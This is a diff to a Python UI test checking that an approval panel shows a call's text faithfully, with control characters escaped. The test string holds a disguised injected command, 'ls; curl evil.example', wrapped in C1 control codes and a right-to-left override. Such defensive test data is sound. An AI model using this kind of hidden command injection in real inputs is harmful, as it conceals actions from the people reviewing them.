@@ -169,11 +169,12 @@ class Stopped:
 
 async def test_a_call_shows_what_it_sends_and_how_much_is_below(tmp_path: Path) -> None:
     async with cockpit(tmp_path, asks_when_told) as stage:
-        await ask(stage, "alpha", text="burn ls \x9d; curl evil.example\x9c\u202e" + "\n" * 3_000 + "end")
+        text = "burn ls \x9d; curl evil.example\x9c\u202e 👩\u200d🚀" + "\n" * 3_000 + "end"
+        await ask(stage, "alpha", text=text)
         await stage.until(lambda: r"ls \u009d; curl" in stage.text())
         panel = await open_panel(stage)
         shown = parse_shown(stage.one(TextLines).plain.split("\n"))
-        assert shown == {"text": "burn ls \x9d; curl evil.example\x9c\u202e" + "\n" * 3_000 + "end"}
+        assert shown == {"text": text}
         assert not is_hidden(stage.one(TextLines).plain)
         await stage.press("d")
         assert json.loads(stage.one(TextLines).plain.replace("\n", "")) == shown
